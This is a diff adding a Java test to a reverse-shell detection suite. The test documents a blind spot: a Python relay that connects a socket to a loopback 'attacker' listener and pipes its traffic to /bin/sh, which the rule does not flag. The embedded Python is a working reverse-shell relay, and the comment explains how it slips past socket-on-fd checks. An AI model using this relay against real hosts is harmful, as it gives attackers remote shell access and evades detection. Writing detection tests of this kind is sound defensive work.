@@ -104,4 +104,32 @@ class ReverseShellLocalTest {
             assertThat(w.findings()).isEmpty();
         }
     }
+
+    /**
+     * What the rule cannot see: a relay that holds the socket on another fd and talks to the shell through
+     * pipes (the mkfifo and pty-less relay variants). Neither process has a socket on fds 0-2; off loopback,
+     * only the relay's connection (EGRESS, if not allowed) gives it away.
+     */
+    @Test
+    void aShellBehindAPipeRelayIsNotSeenByThisRule() throws Exception {
+        try (ServerSocket attacker = new ServerSocket(0, 5, InetAddress.getLoopbackAddress());
+                Spawner root = Spawner.start(); Watch w = Watch.tree(root.pid(), Profiles.permissive())) {
+            root.spawn(Tools.PYTHON, "-c", String.join("\n",
+                    "import os, socket, subprocess, threading",
+                    "s = socket.create_connection(('127.0.0.1', " + attacker.getLocalPort() + "))",
+                    "sh = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)",
+                    "def pump(read, write):",
+                    "    while (data := read(4096)):",
+                    "        write(data)",
+                    "threading.Thread(target=pump, args=(s.recv, lambda d: os.write(sh.stdin.fileno(), d)), daemon=True).start()",
+                    "pump(lambda n: os.read(sh.stdout.fileno(), n), s.sendall)"));
+            try (Socket session = attacker.accept()) {
+                session.getOutputStream().write("sleep 523\n".getBytes(StandardCharsets.US_ASCII));
+                session.getOutputStream().flush();
+                w.awaitProcess("523", Duration.ofSeconds(5));
+                w.scanFor(Duration.ofMillis(800));
+                assertThat(w.findings()).isEmpty();
+            }
+        }
+    }
 }
